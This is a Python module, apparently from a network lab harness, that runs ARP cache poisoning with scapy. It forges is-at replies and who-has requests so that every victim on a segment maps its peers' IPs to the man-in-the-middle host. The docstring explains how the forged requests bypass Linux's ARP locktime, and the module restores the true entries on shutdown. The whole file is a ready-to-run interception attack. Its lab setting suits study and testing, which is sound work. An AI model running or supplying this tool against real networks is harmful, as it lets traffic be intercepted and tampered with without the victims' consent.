"""ARP cache poisoning with scapy, run on the mitm host:

    python -m lab.mitm.arp_worker '<json args>'

Each round tells every victim, for every other victim on the same segment,
"that address is at the mitm's MAC", twice over: an unsolicited is-at reply
and a who-has request. Linux ignores a reply that would change an entry
updated less than `locktime` (1 s) ago, but a request for the victim's own
address always overrides (net/ipv4/arp.c, neigh_event_ns), and it creates
the entry when there is none yet. On SIGTERM the same two packets carry the
true MAC, `restore` times, and a JSON summary is written.

Frames leave with the mitm's own Ethernet source even when restoring, so the
bridge never learns a victim's MAC on the mitm's port.
"""
from __future__ import annotations

import json
import signal
import sys
import threading
import time
from dataclasses import dataclass

ZERO_MAC = "00:00:00:00:00:00"
RESTORE_GAP = 0.25  # seconds between restoring rounds; 5 rounds outlast locktime


@dataclass(frozen=True)
class Claim:
    """Tell `victim_ip` (at `victim_mac`) that `about_ip` is at some MAC."""

    iface: str
    mitm_mac: str
    victim_ip: str
    victim_mac: str
    about_ip: str
    about_mac: str  # the true MAC of about_ip


def claim_frames(claim: Claim, restore: bool) -> list:
    """The reply and the request for one claim, as scapy frames."""
    from scapy.layers.l2 import ARP, Ether
    said = claim.about_mac if restore else claim.mitm_mac
    eth = Ether(src=claim.mitm_mac, dst=claim.victim_mac)
    return [
        eth / ARP(op=2, hwsrc=said, psrc=claim.about_ip, hwdst=claim.victim_mac, pdst=claim.victim_ip),
        eth / ARP(op=1, hwsrc=said, psrc=claim.about_ip, hwdst=ZERO_MAC, pdst=claim.victim_ip),
    ]


def claims_for(victims: list[dict], mitm_macs: dict[str, str]) -> list[Claim]:
    """Every ordered pair of victims on the same mitm interface.

    victims: {"ip", "mac", "iface"} with iface the mitm's interface facing them."""
    out = []
    for v in victims:
        for other in victims:
            if other is not v and other["iface"] == v["iface"]:
                out.append(Claim(v["iface"], mitm_macs[v["iface"]], v["ip"], v["mac"],
                                 other["ip"], other["mac"]))
    return out


def main() -> None:
    opts = json.loads(sys.argv[1])
    from scapy.all import conf, sendp
    conf.verb = 0
    claims = [Claim(**c) for c in opts["claims"]]
    stop = threading.Event()
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, lambda *_: stop.set())
    summary = {"claims": opts["claims"], "rounds": 0, "frames": 0, "restore_rounds": 0,
               "started": time.time()}

    def send(restore: bool) -> None:
        for c in claims:
            frames = claim_frames(c, restore)
            sendp(frames, iface=c.iface)
            summary["frames"] += len(frames)

    print("poisoning", file=sys.stderr, flush=True)
    while not stop.is_set():
        send(restore=False)
        summary["rounds"] += 1
        stop.wait(float(opts["interval"]))
    summary["stopped"] = time.time()
    for i in range(int(opts["restore"])):
        send(restore=True)
        summary["restore_rounds"] += 1
        time.sleep(RESTORE_GAP)
    with open(opts["summary"], "w") as fh:
        json.dump(summary, fh, indent=1)


if __name__ == "__main__":
    main()
